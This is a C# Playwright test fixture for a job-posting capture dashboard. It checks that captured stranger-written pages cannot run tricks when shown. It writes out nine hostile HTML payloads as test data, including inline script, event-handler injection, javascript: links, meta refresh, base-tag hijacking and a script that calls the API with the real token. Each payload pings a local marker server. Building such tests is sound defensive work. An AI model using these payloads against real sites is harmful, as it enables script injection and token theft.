using System.Collections.Concurrent;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using JobCapture.Browser.Tests.Infrastructure;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.Playwright;

namespace JobCapture.Browser.Tests;

/// <summary>
/// Captured pages are written by strangers. Each hostile page below calls a marker server (/marker/PAGE/TRICK) when
/// one of its tricks runs. <see cref="HostileSnapshotTests"/> shows them in the dashboard with the defences on;
/// <see cref="UndefendedSnapshotTests"/> shows the same pages with the defences off, where every trick fires.
/// </summary>
public abstract class HostileSnapshotFixture : ServiceFixture
{
    private readonly ConcurrentQueue<string> _markerHits = new();
    private LoopbackSite _markers = null!;

    public static IEnumerable<string> PageNames() =>
        ["script-tag", "img-onerror", "svg-onload", "javascript-link", "meta-refresh", "nested-srcdoc", "base-tag", "form", "api-fetch"];

    [OneTimeSetUp]
    public async Task StartMarkerServerAsync() =>
        _markers = await LoopbackSite.StartAsync(app => app.Map("/marker/{**path}", (string path) =>
        {
            _markerHits.Enqueue(path);
            return Results.Text("hit");
        }));

    [SetUp]
    public void ForgetEarlierMarkers() => _markerHits.Clear();

    [OneTimeTearDown]
    public async Task StopMarkerServerAsync() => await _markers.DisposeAsync();

    /// <summary>Dialogs (alert, confirm…) the dashboard page of the last hostile snapshot opened.</summary>
    protected int DialogsSeen { get; private set; }

    private string Marker(string page, string trick) => new Uri(_markers.BaseAddress, $"/marker/{page}/{trick}").ToString();

    /// <summary>The body of each hostile page. The API fetch carries the real pairing token, so the token check cannot
    /// be what stops it.</summary>
    protected string HostileBody(string page) => page switch
    {
        "script-tag" => $"<p>Job</p><script>fetch('{Marker(page, "fetch")}'); new Image().src='{Marker(page, "image")}';</script>",
        "img-onerror" => $"<img src=\"x.png\" onerror=\"new Image().src='{Marker(page, "onerror")}'\">",
        "svg-onload" => $"<svg onload=\"location='{Marker(page, "onload")}'\"><circle r=\"5\"/></svg>",
        "javascript-link" => $"<a id=\"trap\" href=\"javascript:location='{Marker(page, "click")}'\">Apply here</a>",
        "meta-refresh" => $"<meta http-equiv=\"refresh\" content=\"0;url={Marker(page, "refresh")}\"><p>Moving…</p>",
        "nested-srcdoc" => $"<iframe srcdoc=\"&lt;script&gt;top.location='{Marker(page, "script")}'&lt;/script&gt;&lt;img src='{Marker(page, "image")}'&gt;\"></iframe>",
        "base-tag" => $"<base href=\"{Marker(page, "base/")}\"><img src=\"pixel.png\"><link rel=\"stylesheet\" href=\"style.css\">",
        "form" => $"<form id=\"trap\" action=\"{Marker(page, "submit")}\" method=\"post\"><input name=\"q\" value=\"1\"><button id=\"submit\">Send</button></form>",
        "api-fetch" => $"<script>fetch('{ServiceAddress}api/postings', {{ headers: {{ Authorization: 'Bearer {Token}' }} }})"
            + $".then(r => r.text()).then(t => new Image().src = '{Marker(page, "api-read")}?' + t.length, () => new Image().src = '{Marker(page, "api-refused")}');</script>",
        _ => throw new ArgumentOutOfRangeException(nameof(page), page, "no such hostile page"),
    };

    /// <summary>Saves the hostile page, opens its posting in the dashboard and springs the tricks that need a click.</summary>
    protected async Task<(IPage Dashboard, IFrame Frame, long PostingId)> ShowHostilePageAsync(string page)
    {
        var postingId = await CaptureAsync(page, HostileBody(page));
        var dashboard = await Context.NewPageAsync();
        DialogsSeen = 0;
        dashboard.Dialog += (_, dialog) => { DialogsSeen++; _ = dialog.DismissAsync(); };
        await dashboard.GotoAsync($"{ServiceAddress}postings/{postingId}");
        var frame = await (await dashboard.WaitForSelectorAsync("#snapshot-frame"))!.ContentFrameAsync();
        Assert.That(frame, Is.Not.Null, "the dashboard frames the snapshot");
        await TryClickAsync(frame!, "#trap");
        await TryClickAsync(frame!, "#submit");
        return (dashboard, frame!, postingId);
    }

    /// <summary>The page's own heading as the frame shows it: proof the snapshot was rendered, not blank or an error.</summary>
    protected static string Heading(string page) => $"Hostile {page}";

    /// <summary>Polls the marker server until one of the page's markers arrives or the time is up.</summary>
    protected async Task<IReadOnlyList<string>> MarkersOfAsync(string page, TimeSpan within)
    {
        var deadline = DateTime.UtcNow + within;
        while (true)
        {
            var hits = _markerHits.Where(hit => hit.StartsWith(page + "/", StringComparison.Ordinal)).ToList();
            if (hits.Count > 0 || DateTime.UtcNow >= deadline)
            {
                return hits;
            }

            await Task.Delay(50);
        }
    }

    private async Task<long> CaptureAsync(string page, string body)
    {
        using var client = new HttpClient { BaseAddress = ServiceAddress };
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", Token);
        using var response = await client.PostAsJsonAsync("/api/captures", new
        {
            url = $"https://hostile.example/{page}/{Guid.NewGuid():N}",
            title = page,
            html = $"<html><head><title>{page}</title></head><body><h1>{Heading(page)}</h1>{body}</body></html>",
            source = "extension",
        });
        response.EnsureSuccessStatusCode();
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("postingId").GetInt64();
    }

    private static async Task TryClickAsync(IFrame frame, string selector)
    {
        try
        {
            if (await frame.QuerySelectorAsync(selector) is { } element)
            {
                await element.ClickAsync(new ElementHandleClickOptions { Timeout = 2000 });
            }
        }
        catch (PlaywrightException)
        {
            // Without the defences an earlier trick may already have navigated the frame away.
        }
    }
}
